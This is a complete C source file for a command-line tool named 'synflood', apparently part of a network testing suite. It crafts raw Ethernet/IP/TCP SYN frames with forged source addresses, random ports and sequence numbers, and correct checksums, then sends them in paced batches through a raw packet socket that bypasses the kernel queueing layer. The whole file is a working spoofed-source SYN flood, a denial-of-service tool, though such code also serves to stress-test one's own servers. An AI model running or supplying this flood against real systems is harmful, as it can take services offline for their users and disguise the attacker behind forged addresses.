// SPDX-License-Identifier: BSD-2-Clause
/* synflood: SYNs of forged addresses, whole frames past the local stack.
 *
 *   synflood --device NAME --mac GATEWAY --to ADDR:PORT --from ADDR --sources N
 *            [--rate N] [--duration MS] [--frames N]
 *
 * Client addresses are ADDR, ADDR + 1, ...; ports and sequence numbers are dice. Ends after the
 * duration, the frames, or SIGTERM, and prints what it sent as one JSON object. */
#include "peer.h"

#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <time.h>

enum { BATCH = 64, FRAME_MAX = 96, TCP_SIZE = 24, ETH_SIZE = 14 };

struct flood {
	const char *device;
	uint8_t macs[12];
	union peer_addr to, from;
	uint32_t sources;
	uint64_t rate, duration_ns, frames;
};

static volatile sig_atomic_t stopping;

static void stop(int signal)
{
	(void)signal;
	stopping = 1;
}

static uint32_t dice(void)
{
	static uint64_t state = 0x9e3779b97f4a7c15ull;

	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return (uint32_t)(state >> 16);
}

static void put16(uint8_t *at, uint32_t value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static void put32(uint8_t *at, uint32_t value)
{
	put16(at, value >> 16);
	put16(at + 2, value);
}

/* Added to sum: bytes in network order. len is even. */
static uint32_t sum_of(const uint8_t *at, size_t len, uint32_t sum)
{
	for (size_t i = 0; i < len; i += 2)
		sum += (uint32_t)(at[i] << 8 | at[i + 1]);
	return sum;
}

static uint32_t folded(uint32_t sum)
{
	sum = (sum & 0xffff) + (sum >> 16);
	return ~(sum + (sum >> 16)) & 0xffff;
}

static size_t ip_header(uint8_t *ip, const union peer_addr *from, const union peer_addr *to)
{
	if (to->sa.sa_family == AF_INET) {
		put16(ip, 0x4500);
		put16(ip + 2, 20 + TCP_SIZE);
		put16(ip + 8, 64 << 8 | IPPROTO_TCP);
		memcpy(ip + 12, &from->in.sin_addr, 4);
		memcpy(ip + 16, &to->in.sin_addr, 4);
		put16(ip + 10, folded(sum_of(ip, 20, 0)));
		return 20;
	}
	put16(ip, 0x6000);
	put16(ip + 4, TCP_SIZE);
	put16(ip + 6, IPPROTO_TCP << 8 | 64);
	memcpy(ip + 8, &from->in6.sin6_addr, 16);
	memcpy(ip + 24, &to->in6.sin6_addr, 16);
	return 40;
}

static size_t make_syn(const struct flood *f, uint8_t *frame)
{
	bool v4 = f->to.sa.sa_family == AF_INET;
	union peer_addr from = f->from;
	uint8_t *ip = frame + ETH_SIZE, *tcp;
	size_t header;

	memset(frame, 0, FRAME_MAX);
	memcpy(frame, f->macs, sizeof(f->macs));
	put16(frame + 12, v4 ? ETH_P_IP : ETH_P_IPV6);
	addr_add(&from, dice() % f->sources);
	header = ip_header(ip, &from, &f->to);
	tcp = ip + header;
	put16(tcp, 1024 + dice() % 64000);
	put16(tcp + 2, addr_port(&f->to));
	put32(tcp + 4, dice());
	put16(tcp + 12, (TCP_SIZE / 4) << 12 | 2);
	put16(tcp + 14, 64240);
	put32(tcp + 20, 2 << 24 | 4 << 16 | 1460); /* MSS */
	put16(tcp + 16, folded(sum_of(v4 ? ip + 12 : ip + 8, v4 ? 8 : 32,
				      sum_of(tcp, TCP_SIZE, IPPROTO_TCP + TCP_SIZE))));
	return ETH_SIZE + header + TCP_SIZE;
}

static int open_device(struct flood *f)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET};
	struct ifreq request = {0};
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), on = 1;

	snprintf(request.ifr_name, IFNAMSIZ, "%s", f->device);
	at.sll_ifindex = (int)if_nametoindex(f->device);
	if (fd < 0 || !at.sll_ifindex || ioctl(fd, SIOCGIFHWADDR, &request) ||
	    bind(fd, (struct sockaddr *)&at, sizeof(at)))
		die("%s: %s", f->device, strerror(errno));
	memcpy(f->macs + 6, request.ifr_hwaddr.sa_data, 6);
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on));
	return fd;
}

static unsigned send_batch(const struct flood *f, int fd)
{
	static uint8_t frames[BATCH][FRAME_MAX];
	struct mmsghdr messages[BATCH] = {0};
	struct iovec parts[BATCH];
	int sent;

	for (unsigned i = 0; i < BATCH; i++) {
		parts[i] = (struct iovec){frames[i], make_syn(f, frames[i])};
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	sent = sendmmsg(fd, messages, BATCH, 0);
	return sent < 0 ? 0 : (unsigned)sent;
}

/* Not before its time by the rate. */
static void pace(const struct flood *f, uint64_t begin, uint64_t sent)
{
	uint64_t due = f->rate ? begin + sent * NSEC_PER_SEC / f->rate : 0, now = now_ns();
	struct timespec rest = {0};

	if (due <= now)
		return;
	rest.tv_nsec = (long)((due - now) % NSEC_PER_SEC);
	rest.tv_sec = (time_t)((due - now) / NSEC_PER_SEC);
	nanosleep(&rest, NULL);
}

static void read_mac(const char *text, uint8_t mac[6])
{
	unsigned b[6];

	if (sscanf(text, "%x:%x:%x:%x:%x:%x", b, b + 1, b + 2, b + 3, b + 4, b + 5) != 6)
		die("--mac %s: expected six hexadecimal bytes", text);
	for (int i = 0; i < 6; i++)
		mac[i] = (uint8_t)b[i];
}

static bool read_option(struct flood *f, const char *key, const char *value)
{
	uint64_t number = strtoull(value, NULL, 10);

	if (!strcmp(key, "--device"))
		f->device = value;
	else if (!strcmp(key, "--mac"))
		read_mac(value, f->macs);
	else if (!strcmp(key, "--to"))
		return !addr_parse(value, true, &f->to);
	else if (!strcmp(key, "--from"))
		return !addr_parse(value, false, &f->from);
	else if (!strcmp(key, "--sources"))
		f->sources = (uint32_t)number;
	else if (!strcmp(key, "--rate"))
		f->rate = number;
	else if (!strcmp(key, "--duration"))
		f->duration_ns = number * NSEC_PER_MSEC;
	else if (!strcmp(key, "--frames"))
		f->frames = number;
	else
		return false;
	return true;
}

int main(int argc, char **argv)
{
	struct flood f = {.sources = 1, .frames = ~0ull, .duration_ns = ~0ull >> 1};
	uint64_t begin, sent = 0;
	int fd;

	for (int i = 1; i + 1 < argc; i += 2)
		if (!read_option(&f, argv[i], argv[i + 1]))
			die("%s %s: not understood", argv[i], argv[i + 1]);
	if (!f.device || !f.sources || f.to.sa.sa_family != f.from.sa.sa_family)
		die("--device, --mac, --to, --from of one family, --sources are needed");
	signal(SIGTERM, stop);
	fd = open_device(&f);
	begin = now_ns();
	while (!stopping && sent < f.frames && now_ns() - begin < f.duration_ns) {
		sent += send_batch(&f, fd);
		pace(&f, begin, sent);
	}
	printf("{\"sent\": %llu, \"ms\": %llu}\n", (unsigned long long)sent,
	       (unsigned long long)((now_ns() - begin) / NSEC_PER_MSEC));
	return 0;
}
